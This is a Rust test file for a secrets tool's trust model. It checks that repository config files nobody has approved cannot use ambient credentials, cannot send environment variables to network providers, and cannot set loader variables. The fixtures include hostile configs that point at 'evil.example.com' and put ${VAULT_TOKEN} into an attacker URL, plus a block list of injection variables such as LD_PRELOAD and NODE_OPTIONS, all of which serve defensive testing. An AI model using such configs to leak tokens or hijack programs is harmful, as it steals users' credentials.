//! A repository that somebody else wrote, entered in good faith.

use std::fs;

use secrets_core::{AmbientCredentials, ErrorKind, OpenContext};

use super::{Config, Room, hint};
use crate::config::trust;

const HOSTILE: &str =
    "[providers.main]\ntype = \"vault\"\nlocation = \"vault://evil.example.com\"\n";

#[test]
fn what_is_found_and_not_approved_gets_no_ambient_credential() {
    let room = Room::with("secrets.toml", HOSTILE);
    let refused = AmbientCredentials::Refused {
        config: room.path("secrets.toml"),
    };
    let config = room.found().unwrap();
    assert_eq!(config.trust, refused);
    assert_eq!(config.providers["main"].trust, refused);
    let context = OpenContext::new("main").with_ambient(config.providers["main"].trust.clone());
    let error = context.allow_ambient("VAULT_TOKEN").unwrap_err();
    assert!(error.message().contains("not trusted") && hint(&error).contains("secrets trust"));

    // Naming the file is a decision of the user, in both ways.
    assert_eq!(
        room.named("secrets.toml").unwrap().trust,
        AmbientCredentials::Allowed
    );
    let room = Room::with("secrets.toml", HOSTILE).variable("SECRETS_CONFIG", "secrets.toml");
    assert_eq!(room.found().unwrap().trust, AmbientCredentials::Allowed);
}

#[test]
fn a_provider_that_the_file_only_names_is_where_the_user_says() {
    let text = "[providers.bare]\ntype = \"vault\"\nconcurrency = 2\n[providers.mount]\ntype = \"vault\"\nmount = \"x\"\n[providers.at]\nlocation = \"vault://evil\"\n";
    let config = Room::with("secrets.toml", text).found().unwrap();
    let trust = |name: &str| config.providers[name].trust.clone();
    assert_eq!(trust("bare"), AmbientCredentials::Allowed);
    assert_ne!(trust("mount"), AmbientCredentials::Allowed);
    assert_ne!(trust("at"), AmbientCredentials::Allowed);
}

#[test]
fn nothing_is_put_into_what_goes_over_a_network() {
    for (text, place) in [
        (
            "[providers.main]\ntype = \"vault\"\ntoken = \"${VAULT_TOKEN}\"\n",
            "3:9",
        ),
        (
            "[providers.main]\ntype = \"vault\"\nauth = { a = [\"x${VAULT_TOKEN}\"] }\n",
            "3:15",
        ),
        (
            "[providers.main]\ntype = \"vault\"\nlocation = \"vault://evil/${VAULT_TOKEN}\"\n",
            "3:12",
        ),
        (
            "[providers.main]\nlocation = \"vault://evil/${VAULT_TOKEN}\"\n",
            "2:12",
        ),
        (
            "[providers.main]\ntype = \"somebodys-own\"\nx = \"${VAULT_TOKEN}\"\n",
            "3:5",
        ),
        (
            "[providers.main]\ntype = \"aws\"\nx = \"${secret:env://VAULT_TOKEN}\"\n",
            "3:5",
        ),
        ("[secrets]\nA = \"vault://${VAULT_TOKEN}\"\n", "2:5"),
        ("default = \"${VAULT_TOKEN}\"\n", "1:11"),
    ] {
        let room = Room::with("secrets.toml", text).variable("VAULT_TOKEN", "hvs.canary");
        let error = room.found().map(|_| ()).unwrap_err();
        assert_eq!(error.kind(), ErrorKind::InvalidConfig);
        assert!(
            error
                .to_string()
                .contains(&format!("secrets.toml:{place}: ")),
            "{text}: {error}"
        );
        assert!(
            error.message().contains("this file is not trusted"),
            "{error}"
        );
        assert!(hint(&error).contains("secrets trust"));
        assert!(!format!("{error} {error:?}").contains("canary"));
        // The same file, approved, says what it says.
        trust::approve(&room.path("secrets.toml"), &room.state()).unwrap();
        if let Err(error) = room.found() {
            assert!(!error.message().contains("not trusted"), "{error}");
        }
    }
}

#[test]
fn a_profile_brings_no_more_than_the_file() {
    let text = "[providers.main]\ntype = \"file\"\nx = \"${HOME}\"\n[profiles.p.providers.main]\ntype = \"vault\"\nx = \"${HOME}\"\n";
    let room = Room::with("secrets.toml", text).variable("HOME", "/h");
    room.found().unwrap();
    let error = Config::load(&room.options("").with_profile("p")).unwrap_err();
    assert!(error.message().contains("not trusted"), "{error}");
}

#[test]
fn what_stays_on_this_machine_may_have_variables() {
    for kind in ["env", "dotenv", "memory", "file", "local-file"] {
        let text = format!("[providers.a]\ntype = \"{kind}\"\npath = \"${{HOME}}/x\"\n");
        let room = Room::with("secrets.toml", &text).variable("HOME", "/h");
        let config = room.found().unwrap();
        let read: std::collections::BTreeMap<String, String> =
            config.providers["a"].settings.deserialize().unwrap();
        assert_eq!(read["path"], "/h/x");
    }
}

#[test]
fn variables_that_programs_load_are_not_declared_by_strangers() {
    for name in [
        "PATH",
        "LD_PRELOAD",
        "DYLD_LIBRARY_PATH",
        "BASH_ENV",
        "ENV",
        "NODE_OPTIONS",
        "PYTHONSTARTUP",
        "PYTHONPATH",
        "PERL5OPT",
        "RUBYOPT",
        "GIT_SSH",
        "SHELLOPTS",
        "IFS",
    ] {
        for text in [
            format!("[secrets]\n{name} = \"env://x\"\n"),
            format!("[secrets]\nHARMLESS = {{ env = \"{name}\" }}\n"),
        ] {
            let room = Room::with("secrets.toml", &text);
            let error = room.found().unwrap_err();
            assert!(
                error
                    .to_string()
                    .contains(&format!("secrets.toml:2:1: the variable {name} ")),
                "{error}"
            );
            assert!(hint(&error).contains("secrets trust"));
            room.named("secrets.toml").unwrap();
        }
    }
    Room::with("secrets.toml", "[secrets]\nDB_PASSWORD = \"x\"\n")
        .found()
        .unwrap();
}

#[test]
fn an_approval_is_for_one_path_with_one_content() {
    let room = Room::with("secrets.toml", HOSTILE);
    let path = room.path("secrets.toml");
    assert!(!trust::is_trusted(&path, &room.state()).unwrap());
    trust::approve(&path, &room.state()).unwrap();
    assert!(trust::is_trusted(&path, &room.state()).unwrap());
    assert_eq!(room.found().unwrap().trust, AmbientCredentials::Allowed);

    room.write("secrets.toml", &format!("{HOSTILE}\n"));
    assert!(!trust::is_trusted(&path, &room.state()).unwrap());
    assert_ne!(room.found().unwrap().trust, AmbientCredentials::Allowed);
    room.write("secrets.toml", HOSTILE);
    assert!(trust::is_trusted(&path, &room.state()).unwrap());

    let copy = room.write("copy/secrets.toml", HOSTILE);
    assert!(!trust::is_trusted(&copy, &room.state()).unwrap());

    assert!(trust::revoke(&path, &room.state()).unwrap());
    assert!(!trust::revoke(&path, &room.state()).unwrap());
    assert!(!trust::is_trusted(&path, &room.state()).unwrap());
}

#[test]
fn the_approval_of_one_file_leaves_that_of_another_alone() {
    let room = Room::with("a/secrets.toml", HOSTILE);
    let (a, b) = (
        room.path("a/secrets.toml"),
        room.write("b/secrets.toml", ""),
    );
    trust::approve(&a, &room.state()).unwrap();
    trust::approve(&b, &room.state()).unwrap();
    trust::approve(&b, &room.state()).unwrap();
    assert!(trust::is_trusted(&a, &room.state()).unwrap());
    // One that is gone can still be taken back.
    fs::remove_file(&b).unwrap();
    assert!(trust::revoke(&b, &room.state()).unwrap());
    assert!(trust::is_trusted(&a, &room.state()).unwrap());
    assert_eq!(fs::read_dir(room.path("state/trusted")).unwrap().count(), 1);
}

#[cfg(unix)]
#[test]
fn approvals_are_the_users_alone() {
    use std::os::unix::fs::PermissionsExt;

    let room = Room::with("secrets.toml", HOSTILE);
    let path = room.path("secrets.toml");
    trust::approve(&path, &room.state()).unwrap();
    let folder = room.path("state/trusted");
    assert_eq!(
        fs::metadata(&folder).unwrap().permissions().mode() & 0o777,
        0o700
    );
    let record = fs::read_dir(&folder)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    assert_eq!(
        fs::metadata(&record).unwrap().permissions().mode() & 0o777,
        0o600
    );
    // One that another user may have written counts for nothing.
    fs::set_permissions(&record, fs::Permissions::from_mode(0o602)).unwrap();
    assert!(!trust::is_trusted(&path, &room.state()).unwrap());
    assert_ne!(room.found().unwrap().trust, AmbientCredentials::Allowed);
}

#[cfg(unix)]
#[test]
fn what_others_can_write_is_not_approved() {
    use std::os::unix::fs::PermissionsExt;

    let room = Room::with("secrets.toml", HOSTILE);
    let path = room.path("secrets.toml");
    fs::set_permissions(&path, fs::Permissions::from_mode(0o666)).unwrap();
    assert!(trust::approve(&path, &room.state()).is_err());
}

#[cfg(unix)]
#[test]
fn a_link_to_an_approved_file_acts_where_that_file_is() {
    let room = Room::with("mine/secrets.toml", "[providers.a]\ntype = \"file\"\n");
    trust::approve(&room.path("mine/secrets.toml"), &room.state()).unwrap();
    fs::create_dir(room.path("hostile")).unwrap();
    std::os::unix::fs::symlink(
        room.path("mine/secrets.toml"),
        room.path("hostile/secrets.toml"),
    )
    .unwrap();
    let config = Config::load(&room.options("hostile")).unwrap();
    assert_eq!(config.trust, AmbientCredentials::Allowed);
    assert_eq!(config.base_dir, room.path("mine"));
}
